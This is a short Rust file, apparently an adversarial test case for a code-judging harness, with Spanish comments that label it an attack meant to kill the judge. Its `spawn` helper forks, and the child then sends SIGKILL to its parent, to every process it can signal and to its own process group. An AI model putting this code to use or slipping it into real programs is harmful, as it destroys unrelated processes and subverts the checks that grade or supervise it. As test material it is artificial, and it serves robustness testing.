//! Ataque: el hijo mata a su padre, a su grupo y a todos los demás.
//! Paso: paso2
//! Código: MAL o SEÑAL
//! Colaría si: quien juzga muere con ellos, o es culpa de la herramienta.

use nix::libc;
use nix::unistd::{ForkResult, Pid, fork};

pub fn spawn(child: impl FnOnce() -> i32) -> nix::Result<Pid> {
    match unsafe { fork() }? {
        ForkResult::Parent { child } => Ok(child),
        ForkResult::Child => {
            let code = child();
            unsafe {
                libc::kill(libc::getppid(), libc::SIGKILL);
                libc::kill(-1, libc::SIGKILL);
                libc::kill(0, libc::SIGKILL);
                libc::_exit(code)
            }
        }
    }
}
